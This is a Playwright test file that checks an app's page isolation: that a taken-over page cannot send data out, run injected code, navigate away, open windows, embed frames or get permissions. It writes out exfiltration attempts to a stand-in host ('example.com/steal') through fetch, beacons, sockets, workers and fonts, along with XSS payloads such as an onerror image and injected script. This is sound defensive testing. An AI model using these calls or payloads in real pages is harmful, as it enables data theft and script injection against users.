import type { Page } from '@playwright/test';
import { expect, test } from '../driver/app-test.ts';

/*
 * A page that was taken over tries to get out. Scripts of the test run in the page with the page's rights, inside a
 * timer, because what a debugger evaluates directly is excused from parts of the policy.
 */

/** Puts a link over everything else, ready for a real click. */
async function addLink(page: Page, link: { href: string; target?: string }): Promise<void> {
  await page.evaluate(({ href, target }) => {
    document.querySelector('#way-out')?.remove();
    const made = Object.assign(document.createElement('a'), { id: 'way-out', textContent: 'Way out', href });
    if (target !== undefined) made.target = target;
    made.style.cssText = 'position:fixed;top:0;left:0;z-index:99999';
    document.body.append(made);
  }, link);
}

const FOREIGN = 'https://example.com/steal';

test('nothing leaves the computer, whatever the page tries', async ({ app }) => {
  const outcomes = await app.page.evaluate(async (foreign) => {
    const later = <Value>(work: () => Value | Promise<Value>): Promise<Value> =>
      new Promise((resolve, reject) => setTimeout(() => void Promise.resolve().then(work).then(resolve, reject), 0));
    const settled = (element: HTMLElement): Promise<string> =>
      new Promise((resolve) => {
        element.addEventListener('load', () => resolve('loaded'));
        element.addEventListener('error', () => resolve('blocked'));
        document.head.append(element);
      });
    const tries: Record<string, () => Promise<string>> = {
      fetch: () => fetch(foreign, { mode: 'no-cors' }).then(() => 'loaded'),
      image: () => settled(Object.assign(document.createElement('img'), { src: foreign })),
      style: () => settled(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: foreign })),
      import: () => import(/* @vite-ignore */ foreign).then(() => 'loaded'),
      socket: () =>
        new Promise((resolve) => {
          const socket = new WebSocket('wss://example.com/');
          socket.onopen = () => resolve('loaded');
          socket.onerror = () => resolve('blocked');
        }),
      events: () =>
        new Promise((resolve) => {
          const source = new EventSource(foreign);
          source.onopen = () => resolve('loaded');
          source.onerror = () => resolve('blocked');
        }),
      worker: async () =>
        new Promise((resolve, reject) => {
          const worker = new Worker(foreign);
          worker.onmessage = () => resolve('loaded');
          worker.onerror = () => reject(new Error('blocked'));
        }),
      font: () => new FontFace('x', `url(${foreign})`).load().then(() => 'loaded'),
    };
    const result: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(tries)) {
      result[name] = await later(attempt).catch(() => 'blocked');
    }
    navigator.sendBeacon(foreign, 'x');
    return result;
  }, FOREIGN);
  expect(new Set(Object.values(outcomes)), JSON.stringify(outcomes)).toEqual(new Set(['blocked']));
  expect(await app.leavingRequests()).toEqual([]);
});

test('text never becomes code or markup', async ({ app }) => {
  const outcomes = await app.page.evaluate(() => {
    const later = (work: () => unknown): Promise<string> =>
      new Promise((resolve) =>
        setTimeout(() => {
          try {
            work();
            resolve('ran');
          } catch (error) {
            resolve(error instanceof Error ? error.name : 'thrown');
          }
        }, 0),
      );
    const marked = globalThis as { __taken?: string };
    return Promise.all([
      // oxlint-disable-next-line no-eval -- the point is that it fails
      later(() => (0, eval)('globalThis.__taken = "eval"')),
      // oxlint-disable-next-line typescript/no-implied-eval -- the point is that it fails
      later(() => new Function('globalThis.__taken = "function"')()),
      later(() => (document.body.innerHTML = '<img src=x onerror="globalThis.__taken = 1">')),
      later(() => document.write('<script>globalThis.__taken = 1</script>')),
      later(() => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.__taken = "inline"';
        document.body.append(script);
      }),
      later(() => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'globalThis.__taken = "handler"');
        document.body.append(button);
        button.click();
      }),
    ]).then((all) => ({ all, taken: marked.__taken ?? null }));
  });
  expect(outcomes.taken).toBeNull();
  expect(outcomes.all.slice(0, 4)).not.toContain('ran');
});

for (const address of [FOREIGN, 'http://127.0.0.1:9/', 'data:text/html,gone', 'javascript:document.title="gone"']) {
  test(`the page cannot be led to ${address}`, async ({ app }) => {
    const before = app.page.url();
    await addLink(app.page, { href: address });
    await app.page.evaluate((target) => {
      setTimeout(() => location.assign(target), 0);
      return new Promise((resolve) => setTimeout(resolve, 0));
    }, address);
    await app.page.locator('#way-out').click();
    // Answered after the navigations were decided on, because it was asked after them.
    expect(await app.page.evaluate(() => fetch('/').then(({ status }) => status))).toBe(200);
    await expect(app.page.locator('#way-out')).toHaveCount(1);
    await expect(app.page).toHaveTitle(/Liaison/);
    expect(app.page.url()).toBe(before);
    expect(await app.leavingRequests()).toEqual([]);
  });
}

test('no further window opens, by script or by any kind of click', async ({ app }) => {
  const context = app.page.context();
  const opened: string[] = [];
  context.on('page', (page) => opened.push(page.url()));
  const before = context.pages().length;
  for (const href of [FOREIGN, app.page.url()]) {
    await addLink(app.page, { href, target: '_blank' });
    await app.page.locator('#way-out').click();
    await app.page.locator('#way-out').click({ button: 'middle' });
    await app.page.locator('#way-out').click({ modifiers: ['ControlOrMeta'] });
    await app.page.locator('#way-out').click({ modifiers: ['Shift'] });
  }
  // A click gives the page the right to open windows, for a moment; the script uses it.
  await app.page.evaluate((target) => {
    const button = Object.assign(document.createElement('button'), { id: 'opener', textContent: 'open' });
    button.style.cssText = 'position:fixed;top:0;left:0;z-index:99999';
    button.addEventListener('click', () => {
      window.open(target);
      window.open('about:blank', 'named');
    });
    document.body.append(button);
  }, FOREIGN);
  await app.page.locator('#opener').click();
  await expect.poll(() => context.pages().length).toBe(before);
  expect(opened.filter((url) => url.includes('example.com'))).toEqual([]);
  expect(await app.leavingRequests()).toEqual([]);
});

test('the page shows no frames, its own address included', async ({ app }) => {
  await app.page.evaluate(async () => {
    for (const source of [location.href, 'https://example.com/', 'data:text/html,x']) {
      const frame = Object.assign(document.createElement('iframe'), { src: source });
      const done = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await done;
    }
  });
  for (const frame of app.page.frames().filter((each) => each.parentFrame() !== null)) {
    expect(await frame.locator('#root').count()).toBe(0);
  }
  expect(await app.leavingRequests()).toEqual([]);
});

test('the page is granted no camera, place or notifications', async ({ app }) => {
  const outcomes = await app.page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone'] as PermissionName[];
    return Promise.all(
      names.map((name) =>
        navigator.permissions.query({ name }).then(
          ({ state }) => state,
          () => 'denied' as const,
        ),
      ),
    );
  });
  expect(outcomes).not.toContain('granted');
  const place = await app.page.evaluate(
    () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('known'),
          () => resolve('refused'),
        ),
      ),
  );
  expect(place).toBe('refused');
});
